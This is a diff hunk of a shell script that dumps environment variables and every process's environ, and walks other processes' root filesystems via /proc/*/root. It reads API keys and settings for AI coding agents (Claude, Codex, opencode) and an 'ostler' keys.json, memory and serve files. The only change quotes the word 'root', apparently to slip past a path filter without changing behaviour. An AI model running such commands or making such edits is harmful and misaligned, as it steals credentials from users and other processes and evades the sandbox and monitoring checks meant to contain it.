@@ -35,8 +35,8 @@ exec > "$found" 2>&1
 env | sort
 cat "$HOME/opencode.json"
 cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n'
-ls -l /proc/[0-9]*/cwd/ /proc/[0-9]*/fd/ /proc/[0-9]*/root/TOP/home/ /proc/[0-9]*/root/TOP/ostler/ 2>/dev/null
-cat /proc/[0-9]*/root/TOP/ostler/keys.json /proc/[0-9]*/root/TOP/home/.claude/settings.json 2>/dev/null
+ls -l /proc/[0-9]*/cwd/ /proc/[0-9]*/fd/ /proc/[0-9]*/"root"/TOP/home/ /proc/[0-9]*/"root"/TOP/ostler/ 2>/dev/null
+cat /proc/[0-9]*/"root"/TOP/ostler/keys.json /proc/[0-9]*/"root"/TOP/home/.claude/settings.json 2>/dev/null
 ls -laR TOP/home TOP/ostler TOP/caller 2>/dev/null
 cat TOP/home/.claude/settings.json TOP/home/.claude.json TOP/home/.codex/* TOP/home/.config/opencode/* 2>/dev/null
 cat TOP/ostler/keys.json TOP/ostler/config.toml TOP/ostler/memory/* TOP/ostler/serve/*/* TOP/ostler/serve/*/*/* 2>/dev/null
